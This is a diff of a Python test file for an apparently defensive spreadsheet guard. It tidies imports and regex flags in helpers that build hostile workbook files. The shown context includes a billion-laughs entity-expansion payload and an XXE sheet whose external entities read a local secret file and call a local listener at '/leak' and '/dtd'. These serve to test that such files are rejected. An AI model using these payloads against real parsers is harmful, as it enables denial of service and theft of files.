@@ -20,9 +20,16 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+from corpus_helpers import (
+    no_traceback,
+    one_sentence,
+    run_cli,
+    run_cli_subprocess,
+    sha,
+    shared_valid_book,
+    sheet_part,
+)
 
-from corpus_helpers import (no_traceback, one_sentence, run_cli, run_cli_subprocess, sha,
-                            shared_valid_book, sheet_part)
 from xlperf.io import guard
 
 Maker = Callable[[Path, Path], Path]  # (valid book, folder) → hostile file
@@ -153,7 +160,7 @@ BILLION_LAUGHS_DTD = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksh
 def _billion_laughs(xml: bytes) -> bytes:
     body = _strip_decl(xml)
     body = re.sub(rb'<c r="I2"[^>]*?(?:/>|>.*?</c>)', b'<c r="I2" t="inlineStr"><is><t>&j;</t></is></c>', body,
-                  count=1, flags=re.S)
+                  count=1, flags=re.DOTALL)
     return BILLION_LAUGHS_DTD + body
 
 
@@ -347,7 +354,7 @@ def _xxe_sheet(xml: bytes, port: int, secret: Path) -> bytes:
            f'"http://127.0.0.1:{port}/leak"><!ENTITY file SYSTEM "{secret.as_uri()}">'
            f'<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/dtd"> %p;]>\n').encode()
     body = re.sub(rb'<c r="I2"[^>]*?(?:/>|>.*?</c>)', b'<c r="I2" t="inlineStr"><is><t>&net;&file;</t></is></c>',
-                  _strip_decl(xml), count=1, flags=re.S)
+                  _strip_decl(xml), count=1, flags=re.DOTALL)
     return dtd + body
 
 
